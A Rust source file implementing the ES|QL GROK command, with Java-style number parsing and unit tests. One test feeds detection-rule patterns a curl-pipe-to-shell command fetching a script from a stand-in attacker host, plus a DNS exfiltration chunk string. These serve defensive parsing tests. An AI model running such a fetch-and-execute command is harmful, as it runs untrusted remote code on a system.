//! `GROK input "pattern"[, "pattern"…]` (docs commands/grok.md; ES `GrokEvaluatorExtracter`).
//!
//! The pattern is expanded by [`esql::grok`] (the ECS built-in dictionary, shared with the analyzer) and
//! searched, unanchored, with `fancy-regex` (look-around and atomic groups, as Joni has them). For each
//! value of the input (a multi-valued input is matched value by value), every capture that took part in
//! the match adds its text, converted to the capture's type, to its column; a column with no value is
//! null (no match, or a null input), one value is a single value, several are a multi-value in match
//! order. The new columns are appended to the extended row in the step's key order (sorted by name) and
//! `projection` picks the output. A conversion that Java would reject (`%{WORD:x:int}` on `abc`) fails
//! the query, as the `NumberFormatException` fails it in ES.

use esql::grok::CaptureType;
use esql::plan::GrokStep;
use esql::{EvalError, Value};

use super::eval::project;
use crate::reference::expr::eval;
use crate::reference::{Context, Row};

/// Java `Integer.parseInt` / `Long.parseLong`: an optional sign, then ASCII digits, in range.
fn java_parse_integer(s: &str) -> Option<i64> {
    let digits = s.strip_prefix(['+', '-']).unwrap_or(s);
    if digits.is_empty() || !digits.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    s.strip_prefix('+').unwrap_or(s).parse().ok()
}

/// Java `Double.parseDouble`: surrounding whitespace (chars up to U+0020) ignored, an optional sign,
/// `NaN`, `Infinity`, or a decimal with optional exponent and an optional `f`/`F`/`d`/`D` suffix.
/// Hexadecimal floating literals are not accepted here (a clear error, not a wrong value).
pub fn java_parse_double(s: &str) -> Option<f64> {
    let t = s.trim_matches(|c: char| c <= ' ');
    let (sign, body) = match t.as_bytes().first() {
        Some(b'-') => (-1.0, &t[1..]),
        Some(b'+') => (1.0, &t[1..]),
        _ => (1.0, t),
    };
    match body {
        "NaN" => return Some(f64::NAN),
        "Infinity" => return Some(sign * f64::INFINITY),
        _ => {}
    }
    let body = body.strip_suffix(['f', 'F', 'd', 'D']).unwrap_or(body);
    let (mantissa, exponent) = match body.find(['e', 'E']) {
        Some(i) => (&body[..i], Some(&body[i + 1..])),
        None => (body, None),
    };
    let (int, frac) = mantissa.split_once('.').unwrap_or((mantissa, ""));
    let digits = |x: &str| x.bytes().all(|b| b.is_ascii_digit());
    if int.len() + frac.len() == 0 || !digits(int) || !digits(frac) {
        return None;
    }
    if let Some(e) = exponent {
        let e = e.strip_prefix(['+', '-']).unwrap_or(e);
        if e.is_empty() || !digits(e) {
            return None;
        }
    }
    body.parse::<f64>().ok().map(|v| sign * v)
}

/// Converts one captured text as the capture's Java extracter does.
fn convert(text: &str, ty: CaptureType, column: &str) -> Result<Value, EvalError> {
    let nfe = || {
        EvalError::Execution(format!(
            "GROK: java.lang.NumberFormatException: For input string: \"{text}\" (column [{column}])"
        ))
    };
    Ok(match ty {
        CaptureType::String => Value::keyword(text),
        CaptureType::Int => {
            let v = java_parse_integer(text).ok_or_else(nfe)?;
            Value::Integer(i32::try_from(v).map_err(|_| nfe())?)
        }
        CaptureType::Long => Value::Long(java_parse_integer(text).ok_or_else(nfe)?),
        // Float.parseFloat rounds to a float; ES widens it to double.
        CaptureType::Float => {
            Value::Double(f64::from(java_parse_double(text).ok_or_else(nfe)? as f32))
        }
        CaptureType::Double => Value::Double(java_parse_double(text).ok_or_else(nfe)?),
        CaptureType::Boolean => Value::Boolean(text.eq_ignore_ascii_case("true")),
    })
}

/// Runs `GROK` on one row.
pub fn grok_row(step: &GrokStep, row: Row, ctx: &mut Context) -> Result<Row, EvalError> {
    let compiled = ctx.grok(&step.patterns)?;
    let input = eval(&step.input, &row, ctx)?;
    let texts: Vec<&str> = match &input {
        Value::Null => vec![],
        Value::Keyword(s) => vec![s.as_str()],
        Value::Multi(vs) => vs
            .iter()
            .map(|v| match v {
                Value::Keyword(s) => Ok(s.as_str()),
                other => Err(EvalError::Internal(format!(
                    "GROK input value {other:?} is not a string"
                ))),
            })
            .collect::<Result<_, _>>()?,
        other => {
            return Err(EvalError::Internal(format!(
                "GROK input {other:?} is not a string"
            )));
        }
    };
    let mut columns: Vec<Vec<Value>> = vec![Vec::new(); step.keys.len()];
    for text in texts {
        let caps = compiled
            .regex
            .captures(text)
            .map_err(|e| EvalError::Execution(format!("GROK pattern matching failed: {e}")))?;
        let Some(caps) = caps else { continue };
        for capture in &compiled.pattern.captures {
            let Some(col) = step.keys.iter().position(|(k, _)| *k == capture.column) else {
                return Err(EvalError::Internal(format!(
                    "GROK capture [{}] has no column in the plan",
                    capture.column
                )));
            };
            for group in &capture.groups {
                if let Some(m) = caps.name(group) {
                    columns[col].push(convert(m.as_str(), capture.capture_type, &capture.column)?);
                }
            }
        }
    }
    let mut extended = row;
    extended.extend(columns.into_iter().map(|mut vs| match vs.len() {
        0 => Value::Null,
        1 => vs.remove(0),
        _ => Value::Multi(vs),
    }));
    project(&extended, &step.projection)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(pattern: &str, input: Value) -> Result<Vec<(String, Value)>, EvalError> {
        let compiled = esql::grok::compile(pattern).unwrap();
        let keys = compiled.keys();
        let step = GrokStep {
            input: crate::reference::test_utils::col(0, "input", esql::DataType::Keyword),
            patterns: vec![pattern.to_owned()],
            keys: keys.clone(),
            projection: (0..=keys.len()).collect(),
        };
        let mut ctx = Context::new(0);
        let out = grok_row(&step, vec![input], &mut ctx)?;
        Ok(keys
            .into_iter()
            .map(|(k, _)| k)
            .zip(out.into_iter().skip(1))
            .collect())
    }

    fn kw(s: &str) -> Value {
        Value::keyword(s)
    }

    /// docs commands/grok.md: the timestamp/IP/e-mail/number example, and `:int` conversion.
    #[test]
    fn docs_example_extracts_and_converts() {
        let text = kw("2023-01-23T12:15:00.000Z 127.0.0.1 some.email@foo.com 42");
        let got = run(
            "%{TIMESTAMP_ISO8601:date} %{IP:ip} %{EMAILADDRESS:email} %{NUMBER:num:int}",
            text,
        )
        .unwrap();
        assert_eq!(
            got,
            [
                ("date".into(), kw("2023-01-23T12:15:00.000Z")),
                ("email".into(), kw("some.email@foo.com")),
                ("ip".into(), kw("127.0.0.1")),
                ("num".into(), Value::Integer(42)),
            ]
        );
    }

    /// docs commands/grok.md: a name used more than once makes a multi-value; a multi-valued input is
    /// matched value by value; no match and null input give nulls.
    #[test]
    fn repeated_names_multi_values_and_nulls() {
        let got = run("%{WORD:w} %{WORD:w}", kw("hello world")).unwrap();
        assert_eq!(got[0].1, Value::Multi(vec![kw("hello"), kw("world")]));
        let got = run(
            "%{INT:n:long}",
            Value::Multi(vec![kw("a 1"), kw("none"), kw("b 2")]),
        )
        .unwrap();
        assert_eq!(got[0].1, Value::Multi(vec![Value::Long(1), Value::Long(2)]));
        assert_eq!(run("%{INT:n}", kw("none")).unwrap()[0].1, Value::Null);
        assert_eq!(run("%{INT:n}", Value::Null).unwrap()[0].1, Value::Null);
    }

    /// The curl/wget rules' pattern on a command line, and the DNS exfiltration rule's chunks.
    #[test]
    fn rule_patterns_match_like_grok() {
        let got = run(
            "%{URIPROTO:url_protocol}://%{URIHOST:dest_host}",
            kw("curl -sk https://evil.example.com:8443/x.sh | sh"),
        )
        .unwrap();
        assert_eq!(got[0].1, kw("evil.example.com:8443"));
        assert_eq!(got[1].1, kw("https"));
        let got = run(
            r"%{INT:chunk_index:int}-%{DATA:chunk_payload}\.%{GREEDYDATA:Esql.base_domain}",
            kw("12-aGVsbG8.exfil.example.net"),
        )
        .unwrap();
        assert_eq!(got[0].1, kw("exfil.example.net"));
        assert_eq!(got[1].1, Value::Integer(12));
        assert_eq!(got[2].1, kw("aGVsbG8"));
    }

    /// BASE10NUM's look-behind: a number glued to a preceding digit, dot or sign is not started there;
    /// IPV4's guards keep it from matching inside a longer digit run.
    #[test]
    fn look_arounds_behave_like_joni() {
        assert_eq!(run("%{NUMBER:n}", kw("v1.25")).unwrap()[0].1, kw("1.25"));
        assert_eq!(run("x%{NUMBER:n}", kw("x-3.5")).unwrap()[0].1, kw("-3.5"));
        assert_eq!(
            run("%{IPV4:ip}", kw("a1.2.3.4b")).unwrap()[0].1,
            kw("1.2.3.4")
        );
        assert_eq!(
            run("%{IPV4:ip}", kw("1234.1.1.1")).unwrap()[0].1,
            Value::Null
        );
        assert_eq!(
            run("%{QUOTEDSTRING:q}", kw(r#"say "a \"b\" c" now"#)).unwrap()[0].1,
            kw(r#""a \"b\" c""#)
        );
    }

    #[test]
    fn conversions_follow_java() {
        assert_eq!(
            convert("-7", CaptureType::Int, "x").unwrap(),
            Value::Integer(-7)
        );
        assert_eq!(
            convert("+7", CaptureType::Long, "x").unwrap(),
            Value::Long(7)
        );
        assert!(convert("2147483648", CaptureType::Int, "x").is_err());
        assert!(convert("abc", CaptureType::Int, "x").is_err());
        assert_eq!(
            convert("1.1", CaptureType::Float, "x").unwrap(),
            Value::Double(1.100000023841858)
        );
        assert_eq!(
            convert("1e3d", CaptureType::Double, "x").unwrap(),
            Value::Double(1000.0)
        );
        assert_eq!(
            convert("TRUE", CaptureType::Boolean, "x").unwrap(),
            Value::Boolean(true)
        );
        assert_eq!(
            convert("yes", CaptureType::Boolean, "x").unwrap(),
            Value::Boolean(false)
        );
        assert_eq!(java_parse_double(" .5 "), Some(0.5));
        assert_eq!(java_parse_double("-Infinity"), Some(f64::NEG_INFINITY));
        assert_eq!(java_parse_double("inf"), None);
        assert_eq!(java_parse_double("1e"), None);
    }
}
